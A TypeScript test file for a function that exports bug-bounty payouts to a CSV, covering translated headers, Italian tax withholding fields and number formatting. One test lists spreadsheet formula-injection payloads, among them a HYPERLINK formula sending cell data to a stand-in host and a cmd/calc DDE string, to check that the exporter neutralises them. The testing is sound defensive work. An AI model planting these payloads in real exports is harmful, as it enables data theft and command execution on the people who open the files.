import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { buildBeneficiariesCsv, type BeneficiaryRow } from './beneficiaries-csv.ts';

function row(overrides: Partial<BeneficiaryRow> = {}): BeneficiaryRow {
  return {
    endToEndId: '0f8fad5bd9cb469fa16570867728950e',
    amountCents: 122_000,
    name: 'Niccolò Rossi',
    iban: 'IT60X0542811101000000123456',
    bic: 'BPMOIT22XXX',
    remittance: 'Bounty: XSS nel modulo di accesso (0f8fad5b)',
    taxId: 'RSSNCL80A01H501U',
    taxRegime: 'it_ordinary_vat',
    grossCents: 100_000,
    vatCents: 22_000,
    withholdingCents: 20_000,
    inpsHackerCents: 0,
    stampDutyCents: 0,
    dueAt: new Date('2026-12-15T10:00:00Z'),
    ...overrides,
  };
}

describe('buildBeneficiariesCsv', () => {
  it('starts with a byte-order mark and a header of translated titles', () => {
    const italian = buildBeneficiariesCsv([row()], 'it');
    const english = buildBeneficiariesCsv([row()], 'en');
    expect(italian.startsWith('\uFEFFBeneficiario,IBAN,BIC,Importo da trasferire,')).toBe(true);
    expect(english.charCodeAt(0)).toBe(0xfeff);
    expect(parse(english, { bom: true })[0]).toEqual([
      'Beneficiary',
      'IBAN',
      'BIC',
      'Amount to transfer',
      'Currency',
      'Remittance information',
      'End-to-end ID',
      'Tax ID',
      'Tax regime',
      'Gross bounty',
      'VAT',
      'Withholding tax',
      "INPS contribution (payee's share)",
      'Stamp duty',
      'Due date',
    ]);
    expect(parse(italian, { bom: true })[0]).toContain("Ritenuta d'acconto");
    expect(parse(italian, { bom: true })[0]).toContain('Contributo INPS a carico del percipiente');
  });

  it("writes an occasional worker's INPS share beside the withholding: the transfer is what is left", () => {
    const occasional = row({
      taxRegime: 'it_occasional_employee',
      amountCents: 60_628,
      grossCents: 80_000,
      vatCents: 0,
      withholdingCents: 16_000,
      inpsHackerCents: 3_372,
    });
    expect((parse(buildBeneficiariesCsv([occasional], 'it'), { bom: true })[1] as string[]).slice(3, 13)).toEqual([
      '606.28',
      'EUR',
      'Bounty: XSS nel modulo di accesso (0f8fad5b)',
      '0f8fad5bd9cb469fa16570867728950e',
      'RSSNCL80A01H501U',
      'Prestazione occasionale - lavoratore dipendente',
      '800.00',
      '0.00',
      '160.00',
      '33.72',
    ]);
  });

  it('writes one row per payment: accents kept, euro with a dot and 2 decimals, the due day in Italy', () => {
    const rows = [
      row(),
      row({
        endToEndId: '1f8fad5bd9cb469fa16570867728950e',
        name: 'Søren Ærø, "Ltd"',
        iban: 'DE89370400440532013000',
        bic: null,
        amountCents: 7_800,
        grossCents: 7_800,
        vatCents: 0,
        withholdingCents: 0,
        inpsHackerCents: 0,
        stampDutyCents: 200,
        taxId: null,
        taxRegime: 'it_flat_rate',
        remittance: 'Referral bonus\nline two',
        dueAt: new Date('2026-12-31T23:30:00Z'),
      }),
    ];
    const [, first, second, ...rest] = parse(buildBeneficiariesCsv(rows, 'it'), { bom: true }) as string[][];
    expect(rest).toEqual([]);
    expect(first).toEqual([
      'Niccolò Rossi',
      'IT60X0542811101000000123456',
      'BPMOIT22XXX',
      '1220.00',
      'EUR',
      'Bounty: XSS nel modulo di accesso (0f8fad5b)',
      '0f8fad5bd9cb469fa16570867728950e',
      'RSSNCL80A01H501U',
      'Partita IVA - regime ordinario',
      '1000.00',
      '220.00',
      '200.00',
      '0.00',
      '0.00',
      '2026-12-15',
    ]);
    expect(second).toEqual([
      'Søren Ærø, "Ltd"',
      'DE89370400440532013000',
      '',
      '78.00',
      'EUR',
      'Referral bonus\nline two',
      '1f8fad5bd9cb469fa16570867728950e',
      '',
      'Partita IVA - regime forfettario',
      '78.00',
      '0.00',
      '0.00',
      '0.00',
      '2.00',
      '2027-01-01',
    ]);
    expect(parse(buildBeneficiariesCsv(rows, 'en'), { bom: true })[2]?.[8]).toBe('Italian VAT number - flat-rate regime (forfettario)');
  });

  it('writes only the header for no payments, and an unknown regime as stored', () => {
    expect(parse(buildBeneficiariesCsv([], 'en'), { bom: true })).toHaveLength(1);
    expect(parse(buildBeneficiariesCsv([row({ taxRegime: 'legacy_regime' })], 'en'), { bom: true })[1]?.[8]).toBe('legacy_regime');
  });

  it.each([['=HYPERLINK("http://evil.example/?leak="&A2,"Click")'], ["@SUM(1+1)*cmd|' /C calc'!A0"], ['+1'], ['-1+1'], ['\t=1+1'], ['\r=1+1'], ['＝1+1']])(
    'neutralises the formula %j in every hacker-written cell with a leading apostrophe',
    (payload) => {
      const csv = buildBeneficiariesCsv([row({ name: payload, remittance: payload, taxId: payload })], 'en');
      const record = parse(csv, { bom: true })[1] as string[];
      expect(record[0]).toBe(`'${payload}`);
      expect(record[5]).toBe(`'${payload}`);
      expect(record[7]).toBe(`'${payload}`);
      // Every other cell is left as it was.
      expect(record[3]).toBe('1220.00');
    },
  );

  it('leaves ordinary text that merely contains those characters alone', () => {
    const record = parse(buildBeneficiariesCsv([row({ name: 'Anna-Maria De Luca', remittance: 'Bounty: a=b + c @ d' })], 'en'), { bom: true })[1] as string[];
    expect(record[0]).toBe('Anna-Maria De Luca');
    expect(record[5]).toBe('Bounty: a=b + c @ d');
  });
});
